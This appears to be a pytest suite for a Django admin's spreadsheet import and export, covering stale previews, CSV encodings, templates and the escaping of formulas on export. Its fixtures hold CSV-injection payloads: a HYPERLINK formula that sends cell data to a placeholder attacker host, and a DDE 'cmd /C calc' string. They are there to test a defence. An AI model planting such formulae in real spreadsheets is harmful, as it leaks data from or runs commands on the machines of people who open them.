"""Spreadsheet import and export through the admin pages, as an administrator uses them."""

import io

import openpyxl
import pytest
import tablib
from django.conf import settings
from django.contrib.admin.models import LogEntry
from django.contrib.messages import ERROR, SUCCESS
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tracker.interchange.resources import ProgramResource
from tracker.models import Program, Sector

# The format choices follow SpreadsheetAdmin.formats: CSV, then XLSX.
CSV, XLSX = "0", "1"

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.fixture(autouse=True)
def english(admin_client):
    """Messages are asserted in English, whatever the site's default language."""
    admin_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


def preview(admin_client, model, content, name="sectors.csv", fmt=CSV):
    upload = SimpleUploadedFile(name, content)
    return admin_client.post(
        reverse(f"admin:tracker_{model}_import"), {"import_file": upload, "format": fmt}
    )


def confirm(admin_client, model, previewed):
    """Press "Confirm import" on a preview page, following the redirect if there is one."""
    form = previewed.context["confirm_form"]
    url = reverse(f"admin:tracker_{model}_process_import")
    return admin_client.post(url, form.initial, follow=True)


def messages_of(response):
    return [(m.level, str(m)) for m in response.context["messages"]]


def export(admin_client, fmt, query=""):
    """The admin's export form posted with every program column ticked."""
    columns = {f"programresource_{name}": "on" for name in ProgramResource().get_export_order()}
    url = reverse("admin:tracker_program_export") + query
    response = admin_client.post(url, {"format": fmt, "resource": "0", **columns})
    assert response.status_code == 200
    return response


def exported_csv_row(admin_client):
    [row] = tablib.Dataset().load(export(admin_client, CSV).content.decode(), format="csv").dict
    return row


def first_row_cells(workbook):
    """The first program's cells, by column name."""
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    headers, first = list(sheet.iter_rows(max_row=2))
    return {header.value: cell for header, cell in zip(headers, first, strict=True)}


# --- Confirming a preview whose rows have since become invalid ---------------------------------


def test_a_row_that_fails_only_on_confirmation_is_reported_and_nothing_is_imported(
    admin_client, seeded
):
    content = (
        "code,name_zh,name_en\n"
        "aerospace,航空航天,Space flight\n"
        "quantum-information,量子信息,Quantum information\n"
    ).encode()
    previewed = preview(admin_client, "sector", content)
    assert not previewed.context["result"].has_validation_errors()
    # Someone adds the same Chinese name between the preview and the confirmation.
    Sector.objects.create(code="quantum", name_zh="量子信息")
    log_entries = LogEntry.objects.count()

    response = confirm(admin_client, "sector", previewed)

    assert response.status_code == 200
    levels = [level for level, _text in messages_of(response)]
    assert SUCCESS not in levels and ERROR in levels
    [invalid] = response.context["result"].invalid_rows
    assert invalid.number == 2
    assert list(invalid.field_specific_errors) == ["name_zh"]
    html = response.content.decode()
    assert "Sector with this Name (Chinese) already exists." in html
    assert f'href="{reverse("admin:tracker_sector_import")}"' in html
    assert Sector.objects.get(code="aerospace").name_en == "Aerospace"
    assert not Sector.objects.filter(code="quantum-information").exists()
    assert LogEntry.objects.count() == log_entries


def test_a_program_whose_authority_was_renamed_after_the_preview_is_not_imported(
    admin_client, pilot_base
):
    rows = ProgramResource().export()
    rows.append([(rows.dict[0] | {"slug": "next-2026", "year": "2026"})[h] for h in rows.headers])
    previewed = preview(admin_client, "program", rows.export("csv").encode(), "programs.csv")
    pilot_base.authority.name_zh = "自治区科技厅（已更名）"
    pilot_base.authority.save()

    response = confirm(admin_client, "program", previewed)

    assert SUCCESS not in [level for level, _text in messages_of(response)]
    assert [row.number for row in response.context["result"].invalid_rows] == [1, 2]
    assert "Nothing named “广西壮族自治区科学技术厅” exists." in response.content.decode()
    assert not Program.objects.filter(slug="next-2026").exists()


# --- Formulae in exported cells ------------------------------------------------------------------


@pytest.fixture
def booby_trapped(pilot_base):
    """Texts as they might arrive in a pasted notice or an imported file."""
    Program.objects.filter(pk=pilot_base.pk).update(
        summary_zh=HYPERLINK,
        summary_en="==1+1",
        title_en="+1+2",
        short_name_en="-2+3+cmd|' /C calc'!A0",
        contact_en="@SUM(1+1)",
    )


def test_a_formula_is_exported_to_csv_without_its_equals_sign(admin_client, booby_trapped):
    row = exported_csv_row(admin_client)
    # The library's escaping drops the leading "=", which leaves plain text.
    assert row["summary_zh"] == HYPERLINK[1:]
    assert row["summary_en"] == "1+1"


def test_csv_cells_excel_would_evaluate_start_with_an_apostrophe(admin_client, booby_trapped):
    row = exported_csv_row(admin_client)
    assert row["title_en"] == "'+1+2"
    assert row["short_name_en"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["contact_en"] == "'@SUM(1+1)"


def test_a_formula_is_exported_to_xlsx_as_a_text_cell(admin_client, booby_trapped):
    cells = first_row_cells(export(admin_client, XLSX).content)
    assert cells["summary_zh"].data_type == "s"
    assert cells["summary_zh"].value == HYPERLINK[1:]
    # The library would drop one "=" only, leaving a formula.
    assert (cells["summary_en"].value, cells["summary_en"].data_type) == ("1+1", "s")
    # In a workbook only "=" starts a formula: the other texts are text cells as they are.
    assert (cells["title_en"].value, cells["title_en"].data_type) == ("+1+2", "s")
    assert cells["contact_en"].value == "@SUM(1+1)"


def test_an_undated_program_exports_to_xlsx_with_empty_cells_and_imports_back(
    admin_client, pilot_base
):
    Program.objects.filter(pk=pilot_base.pk).update(
        is_published=False, deadline=None, max_co_builders=None
    )
    content = export(admin_client, XLSX).content
    cells = first_row_cells(content)
    assert cells["deadline"].value is None
    assert cells["max_co_builders"].value is None

    previewed = preview(admin_client, "program", content, "programs.xlsx", fmt=XLSX)
    assert not previewed.context["result"].has_validation_errors()
    confirm(admin_client, "program", previewed)
    pilot_base.refresh_from_db()
    assert (pilot_base.deadline, pilot_base.max_co_builders) == (None, None)


# --- Encodings of imported CSV files -------------------------------------------------------------

NEW_SECTORS = (
    "code,name_zh,name_en\r\n"
    "quantum-information,量子信息,Quantum information\r\n"
    "marine-economy,海洋经济,Marine economy\r\n"
)


def test_a_gbk_csv_saved_by_excel_imports_with_its_chinese_names(admin_client, seeded):
    previewed = preview(admin_client, "sector", NEW_SECTORS.encode("gbk"))
    assert previewed.context["result"].totals["new"] == 2
    response = confirm(admin_client, "sector", previewed)
    assert SUCCESS in [level for level, _text in messages_of(response)]
    names = Sector.objects.filter(code__in=["quantum-information", "marine-economy"])
    assert sorted(names.values_list("name_zh", flat=True)) == ["海洋经济", "量子信息"]


def test_a_utf8_csv_with_a_byte_order_mark_imports_too(admin_client, seeded):
    previewed = preview(admin_client, "sector", NEW_SECTORS.encode("utf-8-sig"))
    confirm(admin_client, "sector", previewed)
    assert Sector.objects.get(code="quantum-information").name_zh == "量子信息"


def test_a_file_in_no_accepted_encoding_is_refused_with_a_message(admin_client, seeded):
    response = preview(admin_client, "sector", b"code,name_zh\r\nx,\xff\xfe\x80\x81\xff\r\n")
    assert response.status_code == 200
    assert response.context["form"].errors["import_file"] == [
        "File to import: this file could not be read as text. CSV files are accepted in "
        "UTF-8 (with or without BOM) or GBK/GB18030 encoding."
    ]
    assert "confirm_form" not in response.context
    assert not Sector.objects.filter(code="x").exists()


def test_the_import_page_offers_a_template_that_imports_once_filled_in(admin_client, db):
    page = admin_client.get(reverse("admin:tracker_sector_import")).content.decode()
    url = reverse("admin:tracker_sector_import_template")
    assert f'href="{url}"' in page
    # The fields by their names for people, not the column names.
    assert "<code>Code, Name (Chinese), Name (English)</code>" in page
    response = admin_client.get(url)
    assert response["Content-Disposition"] == 'attachment; filename="sector-import-template.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    data, guide = book.worksheets
    assert [cell.value for cell in data[1]] == ["code", "name_zh", "name_en"]
    assert [row[1] for row in guide.iter_rows(min_row=2, values_only=True)] == [
        "Code", "Name (Chinese)", "Name (English)"
    ]
    data.append(["hydrogen", "氢能", "Hydrogen"])
    filled = io.BytesIO()
    book.save(filled)
    previewed = preview(admin_client, "sector", filled.getvalue(), "sectors.xlsx", XLSX)
    confirm(admin_client, "sector", previewed)
    assert Sector.objects.get(code="hydrogen").name_zh == "氢能"


def test_the_export_page_names_the_fields_for_people(admin_client, db):
    page = admin_client.get(reverse("admin:tracker_program_export")).content.decode()
    assert "Maximum co-building units" in page and "Max Co Builders" not in page


def test_the_example_catalog_is_exported_only_when_asked_for(admin_client, demo_catalog):
    def slugs(query=""):
        content = export(admin_client, CSV, query).content.decode()
        return sorted(row["slug"] for row in tablib.Dataset().load(content, format="csv").dict)

    assert slugs() == ["guangxi-pilot-base-2025"]
    assert slugs("?is_demo__exact=1") == [
        "demo-innovation-voucher", "demo-joint-research", "demo-new-rd-institution",
        "demo-rd-subsidy",
    ]
